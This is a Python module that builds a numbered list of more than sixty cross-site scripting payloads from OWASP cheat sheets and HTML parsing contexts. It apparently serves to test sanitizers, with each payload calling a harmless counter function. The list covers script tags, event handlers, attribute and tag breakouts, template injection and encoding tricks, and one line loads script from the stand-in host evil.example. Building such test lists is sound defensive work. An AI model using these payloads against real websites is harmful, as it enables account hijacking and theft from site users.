"""More than sixty ways in which words have become scripts elsewhere; each would call `ran(n)`, which only counts.

Sources: OWASP, "Cross Site Scripting Prevention Cheat Sheet" and "XSS Filter Evasion Cheat Sheet"; the HTML
Standard's parsing contexts (raw text, attributes, foreign elements, templates); Heiderich et al. 2013 on
mutations.
"""

_WAYS = [
    # elements that run
    "<script>CALL</script>", "<ScRiPt>CALL</sCrIpT>", "<script/x>CALL</script/y>", "<<script>CALL//<</script>",
    "<script src=data:text/javascript,CALL></script>", "<script src=//evil.example/x.js></script>",
    "<script type=module>CALL</script>", '<script type=importmap>{"imports":{"a":"data:,CALL"}}</script>',
    "<iframe srcdoc='<script>parent.CALL</script>'></iframe>", "<iframe src=javascript:parent.CALL></iframe>",
    "<object data=javascript:CALL></object>", "<embed src=javascript:CALL>",
    "<meta http-equiv=refresh content='0;url=javascript:CALL'>", "<base href=javascript:CALL//>",
    "<link rel=stylesheet href=data:text/css,*{x:y}>", "<style>@import 'javascript:CALL';</style>",
    # handlers
    "<img src=x onerror=CALL>", "<img src=x: onerror=CALL>", "<img/src/onerror=CALL>", "<svg onload=CALL>",
    "<svg/onload=CALL>", "<svg><script>CALL</script></svg>", "<svg><animate onbegin=CALL attributeName=x dur=1s>",
    "<svg><set onbegin=CALL attributename=x>", "<svg><a xlink:href=javascript:CALL><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=CALL xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=CALL>", "<body onload=CALL>",
    "<input autofocus onfocus=CALL>", "<select autofocus onfocus=CALL>", "<textarea autofocus onfocus=CALL>",
    "<details open ontoggle=CALL>", "<video><source onerror=CALL></video>", "<audio src=x onerror=CALL>",
    "<marquee onstart=CALL>", "<div onpointerrawupdate=CALL style=position:fixed;inset:0>x</div>",
    "<a href=javascript:CALL>x</a>", "<a href='java\tscript:CALL'>x</a>", "<form action=javascript:CALL><button>",
    "<button popovertarget=p>x</button><div id=p popover onbeforetoggle=CALL>",
    "<p style=animation-name:x onanimationstart=CALL>", "<template><img src=x onerror=CALL></template>",
    "<xss contenteditable autofocus onfocus=CALL tabindex=1>", "<img srcset=x onerror=CALL>",
    # out of where words are put
    '"><script>CALL</script>', "'><img src=x onerror=CALL>", '" onmouseover=CALL autofocus onfocus=CALL x="',
    "' autofocus onfocus=CALL x='", "</textarea><script>CALL</script>", "</title><script>CALL</script>",
    "</script><script>CALL</script>", "--><img src=x onerror=CALL>", "]]><script>CALL</script>",
    "</style><script>CALL</script>", "</template><svg onload=CALL>",
    # out of a script, an address, a template
    "'-CALL-'", "\\'-CALL//", "${CALL}", "{{constructor.constructor('CALL')()}}", "{% print(7*7) %}{{7*'7'}}",
    "javascript:CALL", "JaVaScRiPt:CALL//https://", "data:text/html,<script>CALL</script>",
    "\u2028CALL\u2028", "&lt;script&gt;CALL&lt;/script&gt;", "&#x3c;img src=x onerror=CALL&#x3e;",
    "+ADw-script+AD4-CALL+ADw-/script+AD4-",
]  # fmt: skip


def payloads() -> list[str]:
    """Each with a number of its own, so that the one which ran is known."""
    return [way.replace("CALL", f"ran({number})") for number, way in enumerate(_WAYS, start=1)]
